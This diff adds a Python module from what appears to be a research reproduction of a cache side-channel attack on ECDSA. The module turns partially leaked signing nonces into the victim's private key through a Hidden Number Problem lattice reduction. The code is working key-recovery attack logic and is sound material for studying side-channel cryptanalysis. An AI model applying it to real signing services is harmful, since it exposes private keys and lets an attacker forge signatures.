@@ -1,0 +1,119 @@
+"""Key recovery from *partially* extracted nonces (the full endgame).
+
+The end-to-end attack recovers most — not all — bits of each signing's
+nonce.  This module turns those partial extractions into the private key
+via the Hidden Number Problem (:mod:`repro.crypto.hnp`), the route the
+paper's references take:
+
+1. For each captured signing, find the *contiguous leading run* of
+   extracted bits (the attacker can verify contiguity from the window
+   timestamps: consecutive iteration windows must abut).
+2. The ladder's iteration count reveals the nonce's bit length, and the
+   leading run plus the implicit top 1 bit give its most significant bits.
+3. Signings whose leading run is long enough become HNP samples; with
+   roughly ``key_bits / known_bits`` good samples, LLL hands back the key,
+   verified against the victim's public key.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+from typing import List, Optional, Sequence
+
+from ..crypto.curves import BinaryCurve
+from ..crypto.ecdsa import EcdsaSignature
+from ..crypto.hnp import recover_private_key_hnp, sample_from_signature
+from ..errors import CryptoError
+from .extraction import ExtractedBit, ExtractionConfig
+
+
+@dataclass
+class SigningCapture:
+    """Everything the attacker holds about one observed signing.
+
+    The signature and message are public (the attacker requested the
+    victim service); the extracted bits come from the cache trace.
+    """
+
+    message: bytes
+    signature: EcdsaSignature
+    extracted: List[ExtractedBit]
+    #: Ladder iterations observed (= nonce bit length - 1); measured from
+    #: the trace's boundary count or the signing duration.
+    n_iterations: int
+
+
+def leading_run(
+    extracted: Sequence[ExtractedBit],
+    cfg: ExtractionConfig,
+    trace_start: Optional[int] = None,
+) -> List[int]:
+    """The contiguous run of bits from the start of the signing.
+
+    A window belongs to the run if it starts where the previous one ended
+    (within tolerance); the first window must sit at the trace's first
+    activity if ``trace_start`` is given — otherwise it is trusted to be
+    the ladder's first iteration.
+    """
+    ordered = sorted(extracted, key=lambda b: b.start)
+    if not ordered:
+        return []
+    tol = cfg.match_tolerance
+    if trace_start is not None and ordered[0].start - trace_start > tol:
+        return []
+    run = [ordered[0].bit]
+    for prev, cur in zip(ordered, ordered[1:]):
+        if abs(cur.start - prev.end) > tol:
+            break
+        run.append(cur.bit)
+    return run
+
+
+def recover_key_from_captures(
+    curve: BinaryCurve,
+    captures: Sequence[SigningCapture],
+    public_point,
+    cfg: ExtractionConfig = ExtractionConfig(),
+    min_known: int = 8,
+    max_known: int = 24,
+    max_samples: int = 40,
+) -> Optional[int]:
+    """HNP key recovery from partially-decoded signings.
+
+    Uses a uniform unknown-suffix width across samples (required by the
+    lattice): the widest ``shift`` every usable capture supports.  Returns
+    the verified private key or None.
+    """
+    if not captures:
+        raise CryptoError("no captures")
+    usable = []
+    for cap in captures:
+        run = leading_run(cap.extracted, cfg)
+        nonce_bits = cap.n_iterations + 1
+        known = min(len(run) + 1, max_known)  # +1 for the implicit top bit
+        if known >= min_known + 1:
+            usable.append((cap, run, nonce_bits, known))
+    if not usable:
+        return None
+    # Uniform bound: every sample must leave the same number of unknown
+    # bits, and no sample may be asked for more bits than it has — so the
+    # shift is the *largest* unknown-suffix width among usable captures
+    # (captures knowing more get truncated).
+    shift = max(nonce_bits - known for _, _, nonce_bits, known in usable)
+    samples = []
+    for cap, run, nonce_bits, _ in usable[:max_samples]:
+        n_known = nonce_bits - shift
+        if n_known < 1:
+            continue  # nonce shorter than the uniform suffix; skip
+        value = 1
+        for bit in run[: n_known - 1]:
+            value = (value << 1) | bit
+        samples.append(
+            sample_from_signature(
+                curve, cap.message, cap.signature, value, n_known,
+                nonce_bits=nonce_bits,
+            )
+        )
+    if not samples:
+        return None
+    return recover_private_key_hnp(curve, samples, public_point)
